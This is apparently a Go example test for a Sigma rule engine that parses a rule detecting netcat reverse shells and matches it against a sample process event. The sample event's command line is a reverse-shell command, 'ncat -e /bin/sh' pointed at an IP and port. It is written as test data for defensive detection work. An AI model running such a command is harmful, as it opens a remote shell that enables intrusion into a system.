package sigma_test

import (
	"fmt"

	"github.com/heedsh/heed/internal/detect/sigma"
)

func Example() {
	rules, problems := sigma.Parse([]byte(`
title: Reverse Shell Of Netcat
id: 7d1f1a3e-54b1-4b07-9d4e-8a2f5f0c9c11
level: high
logsource: {category: process_creation, product: linux}
detection:
    program: {Image|endswith: [/nc, /ncat]}
    option: {CommandLine|contains: [' -e ', ' --exec ']}
    condition: program and option
`), "netcat.yml")
	set, more := sigma.Compile(rules, sigma.Options{})
	fmt.Println(len(problems), len(more))

	var m sigma.Matcher
	event := sigma.Event{{Name: "Image", Value: "/usr/bin/ncat"}, {Name: "CommandLine", Value: "ncat -e /bin/sh 10.0.0.1 4444"}}
	for _, hit := range set.Match(&m, sigma.ProcessCreation("linux"), event) {
		meta := set.Meta(hit.Rule)
		fmt.Printf("%s: %s\n", meta.Level, meta.Title)
		for _, e := range set.Evidence(&m, hit.Rule) {
			fmt.Printf("  %s %s %q\n", e.Field, e.Test, e.Pattern)
		}
	}
	// Output:
	// 0 0
	// high: Reverse Shell Of Netcat
	//   Image endswith "/ncat"
	//   CommandLine contains " -e "
}
